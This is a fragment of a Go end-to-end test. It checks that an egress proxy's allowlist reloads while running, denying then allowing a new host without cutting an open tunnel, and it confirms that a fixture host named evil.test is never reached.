	sc := bufio.NewScanner(stdout)
	opened := make(chan bool, 1)
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		for sc.Scan() {
			out.WriteString(sc.Text() + "\n")
			if sc.Text() == "tunnel-open" {
				opened <- true
			}
		}
		close(opened)
	}()
	select {
	case ok := <-opened:
		if !ok {
			cmd.Wait()
			t.Fatalf("agent ended before opening the tunnel:\n%s\n%s", out.String(), stderr.String())
		}
	case <-time.After(3 * time.Minute):
		t.Fatal("the tunnel never opened")
	}

	// Rewrite the policy as the host does: write-then-rename, same mode,
	// same owner (the sidecar's uid when the launcher is root).
	path := filepath.Join(stage.InstanceDir(e.State, inst), stage.EgressPolicy)
	st, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	pol, err := egresspkg.ParsePolicy(b)
	if err != nil {
		t.Fatal(err)
	}
	pol.Rules = append(pol.Rules, egresspkg.Rule{Host: "other.test", Port: 8443, Source: "e2e reload"})
	nb, _ := json.MarshalIndent(pol, "", "  ")
	if err := stage.WriteFile(path, append(nb, '\n'), st.Mode().Perm()); err != nil {
		t.Fatal(err)
	}
	if sys, ok := st.Sys().(*syscall.Stat_t); ok {
		if err := os.Chown(path, int(sys.Uid), int(sys.Gid)); err != nil {
			t.Fatal(err)
		}
	}
	fmt.Fprintln(stdin, "go")
	stdin.Close()
	<-ended
	if err := cmd.Wait(); err != nil {
		t.Fatalf("run: %v\n%s\n%s", err, out.String(), stderr.String())
	}
	o := out.String()
	t.Log(o)
	for _, want := range []string{
		"case other-before code=", "connect=403",
		"case other-after code=200 connect=200 exit=0 body=upstream other reached as other.test:8443",
		"case release code=200", "slow-exit=0",
	} {
		if !strings.Contains(o, want) {
			t.Errorf("agent output lacks %q", want)
		}
	}
	for _, bad := range []string{"slow-never-started", "other-never-allowed", "slow-ended-before-release", "slow-stalled"} {
		if strings.Contains(o, bad) {
			t.Errorf("agent output has %q", bad)
		}
	}
	// Intact: every tick from the first to the last, then the end line.
	var ticks, last int
	_, tail, _ := strings.Cut(o, "slow-ticks=")
	if _, err := fmt.Sscanf(tail, "%d last=end after %d ticks", &ticks, &last); err != nil || ticks != last || ticks < 2 {
		t.Errorf("the slow stream was cut: %v (ticks %d, end after %d)", err, ticks, last)
	}

	evs, raw := readLog(t, e.State, inst)
	reload, before, after, tunnel := -1, -1, -1, -1
	for i, ev := range evs {
		switch {
		case ev.Kind == "reload" && ev.Verdict == "allow" && reload < 0:
			reload = i
		case ev.Kind == "connect" && ev.Host == "other.test" && ev.Verdict == "deny" && ev.Reason == "not in the allowlist" && before < 0:
			before = i
		case ev.Kind == "connect" && ev.Host == "other.test" && ev.Verdict == "allow" && strings.Contains(ev.Rule, "e2e reload"):
			after = i
		case ev.Kind == "connect" && ev.Host == "allowed.test" && ev.Verdict == "allow" && ev.BytesIn > 0:
			tunnel = i
		}
	}
	if !(before >= 0 && before < reload && reload < after && reload < tunnel) {
		t.Errorf("log order: other.test denied %d, reload %d, other.test allowed %d, a tunnel to allowed.test closed %d\n%s", before, reload, after, tunnel, raw)
	}
	e2etest.AssertGone(t, c, e.State, inst)
	for _, l := range fixtureLines(t, c, w.evil) {
		if l != "ready evil" {
			t.Errorf("evil.test was reached: %s", l)
		}
	}
}
